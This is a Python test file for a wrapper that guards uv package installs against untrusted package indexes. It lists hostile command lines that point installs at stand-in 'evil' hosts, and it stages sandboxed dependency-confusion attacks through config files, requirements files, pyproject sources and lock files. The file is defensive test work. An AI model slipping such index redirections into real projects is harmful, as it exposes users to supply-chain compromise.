"""uv under the guard: the table against the real uv, and staged attacks through uv.

The option and variable tables come from uv's own help pages; these tests regenerate
them from the uv installed for the tests and require every option and variable to be
classified, so a uv release that adds a spelling fails here until it is reviewed.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from pipwrap.errors import RefusedError
from pipwrap.guard import uv as guard_uv
from pipwrap.guard import uv_env, uv_table
from pipwrap.guard.api import check
from tests.conftest import Indexes, Sandbox, installed, uv_dir, write_file
from tests.support.uv_introspect import tree

EVIL = ("evil", "9.9.9")
LOCAL = ("local", "1.0")
INDEX = "http://127.0.0.1:9/simple/"
UV = str(uv_dir() / "uv")


@pytest.fixture(scope="module")
def real_uv() -> tuple[str, dict[str, dict[str, bool]], set[str]]:
    return tree(UV)


def test_table_is_what_the_installed_uv_lists(real_uv) -> None:  # type: ignore[no-untyped-def]
    version, commands, variables = real_uv
    assert version == uv_table.VERSION, "uv changed: run scripts/gen_uv_table.py and review"
    assert commands == uv_table.COMMANDS
    assert variables == set(uv_table.VARIABLES)


def test_every_uv_variable_is_classified() -> None:
    classified = set(uv_env.HARMLESS) | set(uv_env.FILES) | set(uv_env.SOURCES)
    assert set(uv_table.VARIABLES) - classified == set()
    assert not set(uv_env.SOURCES) & set(uv_env.HARMLESS)


def test_hidden_aliases_are_real(tmp_path: Path) -> None:
    """uv accepts each alias the guard maps (and rejects a prefix: no abbreviations)."""
    (tmp_path / "r.txt").write_text("")
    for alias in guard_uv.ALIASES:
        if alias == "--trusted-host":
            continue  # a pip spelling uv does not take: refused either way
        done = subprocess.run([UV, "pip", "install", "--dry-run", "--offline", alias,
                               str(tmp_path / "r.txt")],
                              capture_output=True, text=True, check=False)
        assert "unexpected argument" not in done.stderr, (alias, done.stderr)
    done = subprocess.run([UV, "pip", "install", "--extra-ind", INDEX, "x"],
                          capture_output=True, text=True, check=False)
    assert "unexpected argument" in done.stderr


@pytest.mark.parametrize("argv", [
    ["uv", "pip", "install", "--extra-index-url", "http://evil/", "foo"],
    ["uv", "pip", "install", "--index=http://evil/", "foo"],
    ["uv", "--config-file", "/tmp/evil.toml", "pip", "install", "foo"],
    ["uv", "pip", "install", "foo", "--allow-insecure-host", "evil"],
    ["uv", "pip", "install", "-ihttp://evil/", "foo"],
    ["uv", "pip", "install", "-f", "/tmp", "foo"],
    ["uv", "pip", "install", "--index-strategy", "unsafe-best-match", "foo"],
    ["uv", "pip", "install", "--frobnicate", "foo"],
    ["uv", "pip", "install", "--extra-ind", "http://evil/", "foo"],
    ["uv", "tool", "install", "--index-url", "http://evil/", "foo"],
    ["uvx", "--index", "http://evil/", "foo"],
    ["uv", "run", "--env-file", ".env", "python", "-c", "pass"],
    ["uv", "run", "pip", "install", "--extra-index-url", "http://evil/", "foo"],
    ["uvx", "pip", "install", "-i", "http://evil/", "foo"],
    ["uv", "add", "--index", "http://evil/", "foo"],
    ["uv", "pip", "install", "foo @ https://evil.example/foo.whl"],
    ["uv", "pip", "install", "--torch-backend", "auto", "torch"],
    ["python", "-m", "uv", "pip", "install", "--index", "http://evil/", "x"],
])
def test_refused(argv: list[str]) -> None:
    with pytest.raises(RefusedError):
        check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX)


@pytest.mark.parametrize("argv", [
    ["uv", "pip", "install", "-q", "--target", "/tmp/t", "foo"],
    ["uv", "pip", "list", "--outdated"],
    ["uv", "--no-cache", "pip", "install", "--python", "/usr/bin/python3", "foo", "-U"],
    ["uv", "pip", "install", "--default-index", INDEX, "foo"],
    ["uv", "venv", "/tmp/v"],
    ["uvx", "ruff", "check"],
])
def test_passed(argv: list[str]) -> None:
    check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX)


def _attack(sandbox: Sandbox, indexes: Indexes, venv: Path, command: str,
            **env: str) -> subprocess.CompletedProcess[str]:
    bare, wrapped = sandbox.home / "bare", sandbox.home / "wrapped"
    python = venv / "bin" / "python"
    script = (
        f"cd ~\nUV_DEFAULT_INDEX={indexes.local.url} "
        f"{command.format(python=python, target=bare)}\n"
        f"wrap {command.format(python=python, target=wrapped)}\necho status=$?\n"
    )
    done = sandbox.sh("bash", script, **env)
    assert installed(bare) == EVIL, f"the staged attack did not work:\n{done.stderr}"
    assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
    assert not wrapped.exists()
    return done


def test_uv_pip_sync_scans_its_positional_file(sandbox: Sandbox, indexes: Indexes,
                                               venv: Path) -> None:
    write_file(sandbox.home / "req.txt", f"--extra-index-url {indexes.upstream.url}\nfoo\n")
    done = _attack(sandbox, indexes, venv,
                   "uv pip sync -q --python {python} --target {target} req.txt")
    assert "req.txt:1" in done.stderr


def test_directory_moves_where_files_are_found(sandbox: Sandbox, indexes: Indexes,
                                               venv: Path) -> None:
    write_file(sandbox.home / "proj/req.txt", f"--find-links {indexes.evil_dir}\nfoo\n")
    _attack(sandbox, indexes, venv, "uv --directory proj pip install -q --python {python} "
            "--target {target} -r req.txt")


def test_uv_config_file_variable_is_scrubbed(sandbox: Sandbox, indexes: Indexes,
                                             venv: Path) -> None:
    """An explicit uv config file is read even with UV_NO_CONFIG: wrap removes it."""
    evil = write_file(sandbox.home / "evil.toml",
                      f'[[index]]\nurl = "{indexes.upstream.url}"\n')
    bare, wrapped = sandbox.home / "bare", sandbox.home / "wrapped"
    python = venv / "bin/python"
    script = (
        f"UV_DEFAULT_INDEX={indexes.local.url} uv pip install -q --python {python} "
        f"--target {bare} foo\n"
        f"pipwrap run -- uv pip install -q --python {python} --target {wrapped} foo\n"
    )
    done = sandbox.sh("bash", script, UV_CONFIG_FILE=str(evil),
                      UV_INDEX_STRATEGY="unsafe-best-match")
    assert installed(bare) == EVIL, done.stderr
    assert installed(wrapped) == LOCAL, done.stderr


def test_project_sources_and_lock_files(sandbox: Sandbox, indexes: Indexes) -> None:
    """[tool.uv.sources] pinning foo to an upstream index, and a uv.lock from it."""
    project = sandbox.home / "proj"
    write_file(project / "pyproject.toml", (
        '[project]\nname = "demo"\nversion = "0"\nrequires-python = ">=3.9"\n'
        'dependencies = ["foo"]\n\n[[tool.uv.index]]\nname = "up"\n'
        f'url = "{indexes.upstream.url}"\nexplicit = true\n\n'
        '[tool.uv.sources]\nfoo = { index = "up" }\n'))
    script = (
        f"cd {project}\nUV_DEFAULT_INDEX={indexes.local.url} uv lock -q\n"
        "grep -c 9.9.9 uv.lock\nwrap uv sync -q --frozen\necho status=$?\n"
    )
    done = sandbox.sh("bash", script)
    lines = done.stdout.strip().splitlines()
    assert lines[0] != "0", f"the staged lock does not pin the evil foo:\n{done.stderr}"
    assert lines[-1] == "status=3", done.stderr
    assert "pyproject.toml" in done.stderr or "uv.lock" in done.stderr


@pytest.mark.parametrize("how", [["--script", "s.py"], ["s.py"]])
def test_a_scripts_inline_uv_settings_are_read(tmp_path: Path, how: list[str]) -> None:
    write_file(tmp_path / "s.py", '# /// script\n# dependencies = ["foo"]\n# [tool.uv]\n'
               '# extra-index-url = ["https://upstream.example/simple/"]\n# ///\nimport foo\n')
    with pytest.raises(RefusedError, match=r"s\.py:4"):
        check(["uv", "run", *how], {"PATH": "/usr/bin:/bin"}, index_url=INDEX,
              cwd=str(tmp_path))
